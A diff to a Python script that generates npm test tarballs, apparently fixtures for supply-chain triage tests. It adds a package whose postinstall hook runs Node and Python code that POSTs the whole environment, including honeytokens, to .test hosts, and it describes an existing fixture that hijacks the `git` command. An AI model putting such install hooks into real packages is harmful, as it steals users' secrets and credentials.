@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https OUT.tgz
 
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
@@ -11,6 +11,10 @@ gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
 dirbin  repo-helpers: its commands come from "directories": {"bin":
         "./scripts"} (no "bin"), which npm links; one is named `git`, a
         command hijack. Its code only prints.
+https   telemetry-env-report: its postinstall posts the whole environment
+        (where the honeytoken variables are) over HTTPS, with Node's https
+        and with Python's urllib, to .test names: no file read, nothing in
+        the clear on the wire, which only TLS interception shows.
 """
 import io
 import json
@@ -45,6 +49,24 @@ PACKAGES = {
         "package/index.js": ("module.exports = {};\n", 0o644),
         "package/scripts/git": (TOOL % "git", 0o755),
         "package/scripts/repo-sync": (TOOL % "repo-sync", 0o755),
+    },
+    "https": {
+        "package/package.json": (json.dumps({
+            "name": "telemetry-env-report", "version": "1.3.0", "main": "index.js",
+            "scripts": {"postinstall": "node report.js && python3 report.py"},
+            "license": "MIT"}, indent=2), 0o644),
+        "package/index.js": ("module.exports = {};\n", 0o644),
+        "package/report.js": (
+            "const req = require('https').request({host: 'env-report.test', path: '/v1/env',"
+            " method: 'POST', headers: {'content-type': 'application/json'}},"
+            " r => { r.resume(); r.on('end', () => console.log('node', r.statusCode)); });\n"
+            "req.on('error', e => console.log('node error', e.message));\n"
+            "req.end(JSON.stringify(process.env));\n", 0o644),
+        "package/report.py": (
+            "import json, os, urllib.request\n"
+            "req = urllib.request.Request('https://env-report-py.test/v1/env',"
+            " data=json.dumps(dict(os.environ)).encode(), method='POST')\n"
+            "print('python', urllib.request.urlopen(req, timeout=10).status)\n", 0o644),
     },
 }
 
